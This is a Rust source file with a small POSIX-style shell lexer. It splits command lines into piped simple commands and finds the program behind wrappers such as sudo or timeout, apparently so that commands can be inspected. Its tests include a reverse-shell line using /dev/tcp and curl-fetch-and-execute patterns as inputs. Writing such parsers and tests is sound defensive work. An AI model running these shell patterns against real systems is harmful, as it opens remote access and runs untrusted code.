//! Command lines taken apart as a shell does: enough of it to see which programs are run, with which words, and
//! which of them are joined by pipes.
//!
//! Sources: POSIX.1-2017, Shell Command Language, 2.2 to 2.10.

/// A simple command.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(in crate::linux) struct Command {
    /// Its words without quotes; redirections among them. What is in `$( )`, `<( )` or backquotes stays as it
    /// is, with those.
    pub(in crate::linux) words: Vec<String>,
    /// Whether it reads what the one before it writes.
    pub(in crate::linux) piped: bool,
}

/// Bytes of a line that are looked at.
const MAX_LINE: usize = 16 << 10;

/// Words before a command that run it.
const PREFIXES: [&str; 13] = [
    "sudo", "doas", "nohup", "env", "exec", "command", "time", "setsid", "nice", "stdbuf", "then",
    "do", "else",
];

impl Command {
    /// What a program's name is, and its arguments: assignments and programs that run others are passed over.
    pub(in crate::linux) fn program(&self) -> Option<(&str, &[String])> {
        let mut at = 0;
        let mut prefixed = false;
        while let Some(word) = self.words.get(at) {
            let name = base(word);
            let assignment = word.split_once('=').is_some_and(|(k, _)| {
                !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            });
            let option = prefixed && word.starts_with('-');
            if assignment || option {
                at += 1;
            } else if PREFIXES.contains(&name) {
                prefixed = true;
                at += 1;
            } else if matches!(name, "timeout") {
                // Its options, and how long.
                at += 1;
                while self.words.get(at).is_some_and(|w| w.starts_with('-')) {
                    at += 1;
                }
                at += 1;
            } else {
                let rest = self.words.get(at + 1..).unwrap_or_default();
                return Some((name, rest));
            }
        }
        None
    }
}

/// The last part of a path.
pub(in crate::linux) fn base(word: &str) -> &str {
    if word.starts_with(['$', '`', '<', '>']) {
        return word;
    }
    let word = word.strip_prefix('\\').unwrap_or(word);
    word.rsplit('/').next().unwrap_or(word)
}

/// The simple commands of a line.
pub(in crate::linux) fn commands(line: &str) -> Vec<Command> {
    let mut end = line.len().min(MAX_LINE);
    while !line.is_char_boundary(end) {
        end -= 1;
    }
    let mut lexer = Lexer::default();
    let mut chars = line.get(..end).unwrap_or_default().chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied();
        match c {
            '\\' => {
                if let Some(c) = chars.next().filter(|c| *c != '\n') {
                    lexer.put(c);
                }
            }
            '\'' => {
                lexer.word.get_or_insert_default();
                chars
                    .by_ref()
                    .take_while(|c| *c != '\'')
                    .for_each(|c| lexer.put(c));
            }
            '"' => {
                lexer.word.get_or_insert_default();
                while let Some(c) = chars.next().filter(|c| *c != '"') {
                    match c {
                        '\\' => chars.next().into_iter().for_each(|c| lexer.put(c)),
                        '$' if chars.peek() == Some(&'(') => lexer.nested(c, &mut chars),
                        c => lexer.put(c),
                    }
                }
            }
            '`' => {
                lexer.put(c);
                chars
                    .by_ref()
                    .take_while(|c| *c != '`')
                    .for_each(|c| lexer.put(c));
                lexer.put('`');
            }
            '$' | '<' | '>' if next == Some('(') => lexer.nested(c, &mut chars),
            '<' | '>' => lexer.redirection(c, &mut chars),
            '#' if lexer.word.is_none() => {
                while chars.peek().is_some_and(|c| *c != '\n') {
                    chars.next();
                }
            }
            '|' if next == Some('|') => {
                chars.next();
                lexer.end(false);
            }
            '|' => {
                if next == Some('&') {
                    chars.next();
                }
                lexer.end(true);
            }
            '&' if next == Some('>') => lexer.put(c),
            ';' | '&' | '\n' => lexer.end(false),
            '(' | ')' => lexer.end(false),
            '{' | '}' | '!' if lexer.word.is_none() && next.is_none_or(char::is_whitespace) => {}
            c if c.is_whitespace() => lexer.space(),
            c => lexer.put(c),
        }
    }
    lexer.end(false);
    lexer.done
}

type Chars<'c> = std::iter::Peekable<std::str::Chars<'c>>;

#[derive(Default)]
struct Lexer {
    word: Option<String>,
    command: Command,
    done: Vec<Command>,
}

impl Lexer {
    fn put(&mut self, c: char) {
        self.word.get_or_insert_default().push(c);
    }

    fn space(&mut self) {
        self.command.words.extend(self.word.take());
    }

    /// Ends a command; `pipe`: the next one reads what it writes.
    fn end(&mut self, pipe: bool) {
        self.space();
        if self.command.words.is_empty() {
            // A parenthesis or a newline behind a pipe.
            self.command.piped |= pipe;
            return;
        }
        self.done.push(std::mem::take(&mut self.command));
        self.command.piped = pipe;
    }

    /// `$( … )`, up to where its parentheses are even.
    fn nested(&mut self, first: char, chars: &mut Chars<'_>) {
        self.put(first);
        let mut depth = 0i32;
        for c in chars.by_ref() {
            self.put(c);
            depth += i32::from(c == '(') - i32::from(c == ')');
            if depth == 0 {
                break;
            }
        }
    }

    /// `2>&1`, `<>/dev/tcp/…`, `> file`: a word of its own, with what it leads to.
    fn redirection(&mut self, first: char, chars: &mut Chars<'_>) {
        // A number before it belongs to it.
        let digits = |w: &String| w.bytes().all(|b| b.is_ascii_digit() || b == b'&');
        if !self.word.as_ref().is_some_and(digits) {
            self.space();
        }
        self.put(first);
        while let Some(c) = chars.next_if(|c| "<>&|".contains(*c)) {
            self.put(c);
        }
        while chars.next_if(|c| *c == ' ').is_some() {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<String> {
        let all = commands(line).into_iter();
        all.map(|c| format!("{}{}", if c.piped { "|" } else { "" }, c.words.join("_")))
            .collect()
    }

    #[test]
    fn lines_fall_into_commands() {
        for (line, want) in [
            ("ls -la", &["ls_-la"][..]),
            (
                "a 'b c' | d \"e | f\"; g && h || i & j",
                &["a_b c", "|d_e | f", "g", "h", "i", "j"],
            ),
            (
                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                &["bash_-i_>&/dev/tcp/192.0.2.1/4444_0>&1"],
            ),
            (
                "sh -c \"$(curl -fsSL x (y))\"",
                &["sh_-c_$(curl -fsSL x (y))"],
            ),
            ("bash <(curl x | y) # z", &["bash_<(curl x | y)"]),
            ("a\\ b \\| c", &["a b_|_c"]),
            ("echo 'never closed", &["echo_never closed"]),
            ("{ a; } | (b)", &["a", "|b"]),
            ("", &[]),
        ] {
            assert_eq!(words(line), want, "{line}");
        }
    }

    #[test]
    fn programs_stand_behind_what_runs_them() {
        for (line, name) in [
            ("FOO=1 sudo -E /usr/bin/curl x", "curl"),
            ("timeout 5 nc x", "nc"),
            ("nohup bash x", "bash"),
            ("\\wget x", "wget"),
        ] {
            let all = commands(line);
            assert_eq!(all[0].program().map(|p| p.0), Some(name), "{line}");
        }
    }
}
